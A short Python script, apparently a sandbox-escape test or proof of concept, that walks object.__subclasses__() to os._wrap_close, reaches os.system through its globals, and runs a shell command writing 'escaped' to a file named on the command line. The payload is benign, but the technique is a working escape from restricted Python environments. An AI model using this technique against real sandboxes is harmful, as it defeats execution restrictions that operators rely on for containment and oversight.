"""Escape: walk object.__subclasses__() to os._wrap_close and its globals."""
import sys
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("echo escaped > '%s'" % sys.argv[1])
        break
